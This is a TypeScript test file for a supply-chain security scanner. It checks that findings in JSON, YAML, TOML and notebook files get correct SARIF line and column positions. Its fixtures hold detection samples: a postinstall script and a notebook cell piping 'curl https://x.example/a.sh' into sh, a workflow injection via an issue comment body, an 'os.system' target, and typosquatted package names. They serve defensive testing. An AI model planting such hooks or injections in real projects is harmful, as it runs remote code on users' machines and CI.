/** Lines and columns of findings in structured texts, for reports in SARIF. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { bufferInput } from '../../../src/supply/input.ts';
import { jsonPlaces } from '../../../src/supply/places/json.ts';
import { placeOf, type Place } from '../../../src/supply/places/place.ts';
import { withRegions } from '../../../src/supply/places/region.ts';
import { tomlPlaces } from '../../../src/supply/places/toml.ts';
import { yamlPlaces } from '../../../src/supply/places/yaml.ts';
import { sarifReporter } from '../../../src/supply/report/sarif.ts';
import { rulesOf } from '../../../src/supply/scan.ts';
import { scanEntry, walk } from '../../../src/supply/walk.ts';

/** What follows a place in its line. */
function at(root: Place | undefined, text: string, location: string): string | undefined {
  const offset = root === undefined ? undefined : placeOf(root, location);
  return offset === undefined ? undefined : text.slice(offset).split('\n')[0];
}

describe('JSON', () => {
  const text = '{\n  "a.b": {"c": [1, {"d~/": "x"}]},\n  "a": {"b": 2},\n  // a remark\n  "node_modules/z": 3,\n  "packages": {"node_modules/q": {"x": 1}},\n  "cells": [{"k": 1},\n {"k": 2}]\n}';
  test.each([
    ['/a.b/c/1/d~0~1', '"d~/": "x"}]},'], ['a.b.c[1]', '{"d~/": "x"}]},'], ['a.b.c[7]', '"c": [1, {"d~/": "x"}]},'], ['/a/b', '"b": 2},'], ['node_modules/z', '"node_modules/z": 3,'], ['node_modules/q', '"node_modules/q": {"x": 1}},'], ['cell 2', '{"k": 2}]'],
    ['gone', undefined], ['/gone', undefined], ['cell 3', undefined], ['cell 0', undefined],
  ])('%s', (location, wanted) => { expect(at(jsonPlaces(text), text, location)).toBe(wanted); });

  test.each([['lines of JSON', '{"a":1}\n{"a":2}'], ['what is cut off', '{"a":[1'], ['what is closed otherwise', '{"a":[1}}'], ['a key without quotes', '{a:1}'], ['nesting without end', '['.repeat(5000)]])('has no places for %s', (_, broken) => { expect(jsonPlaces(broken)).toBeUndefined(); });

  test('every key and item of any value is found where it stands', () => {
    fc.assert(fc.property(fc.dictionary(fc.string({ minLength: 1 }), fc.array(fc.jsonValue({ maxDepth: 2 }))), fc.constantFrom(undefined, 2), (value, indent) => {
      const written = JSON.stringify(value, undefined, indent);
      const root = jsonPlaces(written);
      for (const [key, items] of Object.entries(value)) {
        const place = root?.entries?.get(key);
        expect(written.startsWith(JSON.stringify(key), place?.at)).toBe(true);
        expect(place?.items).toHaveLength(items.length);
        for (const [i, item] of items.entries()) if (typeof item !== 'object' || item === null) expect(written.startsWith(JSON.stringify(item), place?.items?.[i]?.at)).toBe(true);
      }
    }));
  });
});

describe('YAML', () => {
  const text = 'jobs:\n  a:\n    steps:\n      - run: x\n      - uses: y\n        with: {k: v}\n# remark\n"b c":\n- 1\n---\nother: 1\n';
  test.each([['jobs.a.steps[1]', 'uses: y'], ['jobs.a.steps[1].with.k', 'k: v}'], ['b c[0]', '1'], ['jobs.gone', 'jobs:'], ['other', undefined]])('%s', (location, wanted) => { expect(at(yamlPlaces(text), text, location)).toBe(wanted); });
  test('has no places for what is none', () => { expect([yamlPlaces('a: [b'), yamlPlaces('- '.repeat(3000)), yamlPlaces('')?.entries]).toEqual([undefined, undefined, undefined]); });
});

describe('TOML', () => {
  const text = 'top = 1 # x\n[project]\nname = "a"\ndependencies = [ # y\n  "a",\n  "]b", [1, 2],\n]\nlong = """\n[not.a.table]\nx = 1"""\n\n[tool."p q".x]\nk.l = {m = 1}\n\n[[package]]\nname = "one"\n[package.dependencies]\nz = "1"\n[[package]]\nname = "two"\n';
  test.each([
    ['top', 'top = 1 # x'], ['project.name', 'name = "a"'], ['project.dependencies[1]', '"]b", [1, 2],'], ['project.dependencies[2]', '[1, 2],'], ['/tool/p q/x/k/l/m', 'k.l = {m = 1}'], ['tool.p q.x', '[tool."p q".x]'],
    ['package 2 (two)', '[[package]]'], ['package[0].dependencies.z', 'z = "1"'], ['package[1].name', 'name = "two"'], ['not.a.table', undefined], ['project.x', '[project]'],
  ])('%s', (location, wanted) => { expect(at(tomlPlaces(text), text, location)).toBe(wanted); });

  test('ends for any text, also a broken one', () => {
    const piece = fc.constantFrom('[', ']', '[[', '"', '"""', "'", '\\', '\n', '=', '.', ',', '{', '}', '#', 'a', ' ');
    fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => { tomlPlaces(pieces.join('')); }));
  });

  test('takes time in proportion to the text', () => {
    const cost = (count: number): number => {
      const long = `[[package]]\nname = "a"\nfiles = [${'"x", '.repeat(20)}]\n`.repeat(count);
      const began = process.cpuUsage().user;
      tomlPlaces(long);
      return process.cpuUsage(undefined).user - began;
    };
    cost(2000);
    expect(cost(16_000) / Math.max(cost(2000), 5000)).toBeLessThan(40);
  });
});

describe('findings', () => {
  let dir: string;
  beforeEach(() => { dir = mkdtempSync(join(tmpdir(), 'sallyport-places-')); });
  afterEach(() => { rmSync(dir, { recursive: true, force: true }); });

  /** The regions of what is reported of a file, with the rules. */
  function regions(name: string, content: string | Buffer): readonly string[] {
    const path = join(dir, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
    const reporter = sarifReporter({ version: '1', rules: rulesOf(), cwd: dir, roots: [dir], time: '', paint: (_, text) => text });
    const rows = [...walk(dir)].map((entry) => reporter.file(scanEntry(entry, { regions: true }))).join('');
    const log = JSON.parse(reporter.begin() + rows + reporter.end({ files: 1, malicious: 0, suspicious: 0, unscanned: 0, benign: 0, accepted: 0 }, 0)) as { runs: { results: { ruleId: string; locations: { physicalLocation: { region: { startLine: number; startColumn?: number } }; logicalLocations?: { fullyQualifiedName: string }[] }[] }[] }[] };
    return (log.runs[0]?.results ?? []).flatMap(({ ruleId, locations }) => locations.map(({ physicalLocation: { region: { startLine, startColumn } }, logicalLocations }) => `${ruleId} ${startLine}:${startColumn ?? '-'} ${logicalLocations?.[0]?.fullyQualifiedName ?? ''}`));
  }

  test.each<[string, string, string, string]>([
    ['a workflow', '.github/workflows/ci.yml', 'on: issue_comment\njobs:\n  a:\n    steps:\n      - run: npm test\n      - run: echo ${{ github.event.comment.body }}\n', 'workflow.injection 6:9 jobs.a.steps[1]'],
    ['settings in JSON', 'config.json', '{\n  "model_type": "x",\n  "auto_map": {"AutoModel": "modeling.M"},\n  "inner": {\n    "_target_": "os.system"}\n}\n', 'json.dangerous-target 5:5 /inner/_target_'],
    ['package.json', 'package.json', '{\n  "name": "x",\n  "scripts": {\n    "postinstall": "curl https://x.example/a.sh | sh"\n  }\n}\n', 'npm-manifest.dangerous-script 4:5 scripts.postinstall'],
    ['a lock of npm', 'package-lock.json', `{"lockfileVersion":3,"packages":{"":{},\n  "node_modules/lodahs":{"version":"1.0.0","resolved":"https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz","integrity":"sha512-${Buffer.alloc(64, 7).toString('base64')}"}}}`, 'package.imitated-name 2:3 node_modules/lodahs'],
    ['a project of Python', 'pyproject.toml', '[project]\nname = "x"\ndependencies = ["reqeusts==1.0"]\n', 'package.imitated-name 3:1 project.dependencies'],
    ['a notebook', 'a.ipynb', '{\n "cells": [\n  {"cell_type": "code", "source": "import os", "outputs": [], "metadata": {}},\n  {"cell_type": "code", "source": "!curl https://x.example/a.sh | sh", "outputs": [], "metadata": {}}\n ],\n "metadata": {}, "nbformat": 4, "nbformat_minor": 5\n}\n', 'notebook.dangerous-code 4:3 cell 2'],
  ])('of %s have their line and column', (_, name, content, wanted) => { expect(regions(name, content)).toContain(wanted); });

  test('stay as they are where there is no such place, in archives and in texts that are no JSON', () => {
    const finding = { rule: 'a.b', severity: 'low', message: 'm', location: '/a/b' } as const;
    for (const content of ['{"c":1}', '{"a":', '\0\u0001', 'PK', '{"a":1}\n{"a":2}']) expect(withRegions(bufferInput('x.json', Buffer.from(content)), [finding])).toEqual([finding]);
    expect(withRegions(bufferInput('x.json', Buffer.from('{"a":1}')), [finding, { ...finding, location: 'line 3' }])).toEqual([{ ...finding, region: { line: 1, column: 2 } }, { ...finding, location: 'line 3' }]);
  });

  test('have none where no report asks', () => {
    writeFileSync(join(dir, 'package.json'), '{"scripts":{"postinstall":"curl https://x.example/a.sh | sh"}}');
    for (const entry of walk(dir)) for (const finding of scanEntry(entry).findings) expect(finding).not.toHaveProperty('region');
  });
});
